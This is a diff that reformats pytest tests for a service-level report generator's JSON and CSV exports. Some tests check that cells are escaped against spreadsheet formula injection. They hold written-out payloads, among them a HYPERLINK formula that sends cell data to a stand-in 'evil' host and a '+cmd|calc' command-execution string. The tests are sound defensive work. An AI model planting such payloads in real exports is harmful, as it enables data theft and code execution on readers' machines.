@@ -14,8 +14,14 @@ def test_report_json_validates_against_the_schema(example_report):
     document = json.loads(report_json(example_report))
     jsonschema.Draft202012Validator(schema(), format_checker=jsonschema.FormatChecker()).validate(document)
     assert document["schema_version"] == 1 and document["month"] == "2026-10"
-    assert document["window"] == {"kind": "calendar-month", "timezone": "UTC", "start": "2026-10-01T00:00:00Z",
-                                  "end": "2026-11-01T00:00:00Z", "minutes": 44640.0, "days": 31.0}
+    assert document["window"] == {
+        "kind": "calendar-month",
+        "timezone": "UTC",
+        "start": "2026-10-01T00:00:00Z",
+        "end": "2026-11-01T00:00:00Z",
+        "minutes": 44640.0,
+        "days": 31.0,
+    }
 
 
 def test_schema_rejects_a_report_with_a_missing_figure(example_report):
@@ -30,8 +36,14 @@ def test_no_data_serialises_as_null_never_as_nan(example_report):
 
     service = example_report.services[0]
     first = service.slos[0]
-    empty = replace(first.result, sli=None, margin=None, status="no data", no_data_reason="no events in the window",
-                    budget=replace(first.result.budget, consumed=None, remaining=None))
+    empty = replace(
+        first.result,
+        sli=None,
+        margin=None,
+        status="no data",
+        no_data_reason="no events in the window",
+        budget=replace(first.result.budget, consumed=None, remaining=None),
+    )
     report = replace(example_report, services=(replace(service, slos=(replace(first, result=empty),)),))
     text = report_json(report)
     assert "NaN" not in text
@@ -43,8 +55,12 @@ def test_no_data_serialises_as_null_never_as_nan(example_report):
 def test_slos_csv_has_one_row_per_service_and_slo(example_report):
     rows = list(csv.DictReader(io.StringIO(slos_csv(example_report))))
     assert [(r["service"], r["slo"]) for r in rows] == [
-        ("model-api", "availability"), ("model-api", "latency"), ("batch-inference", "job-success"),
-        ("feature-store", "availability"), ("feature-store", "latency")]
+        ("model-api", "availability"),
+        ("model-api", "latency"),
+        ("batch-inference", "job-success"),
+        ("feature-store", "availability"),
+        ("feature-store", "latency"),
+    ]
     batch = rows[2]
     assert batch["status"] == "missed" and batch["zone"] == "red"
     assert (batch["good_events"], batch["total_events"]) == ("116", "124")
@@ -58,7 +74,13 @@ def test_names_from_data_never_become_spreadsheet_formulas():
 
     assert cell('=HYPERLINK("http://evil/?x="&A1,"click")') == '\'=HYPERLINK("http://evil/?x="&A1,"click")'
     assert [cell(t) for t in ("+cmd|calc!A0", "-1", "@SUM(A1)", "\tx", "acme", "")] == [
-        "'+cmd|calc!A0", "'-1", "'@SUM(A1)", "'\tx", "acme", ""]
+        "'+cmd|calc!A0",
+        "'-1",
+        "'@SUM(A1)",
+        "'\tx",
+        "acme",
+        "",
+    ]
 
 
 def test_credits_csv_quotes_a_hostile_customer(tmp_path):
@@ -67,9 +89,13 @@ def test_credits_csv_quotes_a_hostile_customer(tmp_path):
     from reports.sources import source_for
     from tests.conftest import OCTOBER, RUN_AT, make_config
 
-    (tmp_path / "events.csv").write_text("timestamp,service,slo,customer,good,total\n"
-                                         "2026-10-05T00:00:00Z,api,availability,=1+1,9,10\n")
-    config = make_config(tmp_path, customers={"default_tier": "t", "tiers": {"t": {"objective": 0.9}}},
-                         services=[{"name": "api", "slos": [{"name": "availability", "objective": 0.9, "sla": True}]}])
+    (tmp_path / "events.csv").write_text(
+        "timestamp,service,slo,customer,good,total\n2026-10-05T00:00:00Z,api,availability,=1+1,9,10\n"
+    )
+    config = make_config(
+        tmp_path,
+        customers={"default_tier": "t", "tiers": {"t": {"objective": 0.9}}},
+        services=[{"name": "api", "slos": [{"name": "availability", "objective": 0.9, "sla": True}]}],
+    )
     rows = list(csv.reader(io.StringIO(credits_csv(build_month(config, source_for(config), OCTOBER, RUN_AT)))))
     assert rows[1][1] == "'=1+1"
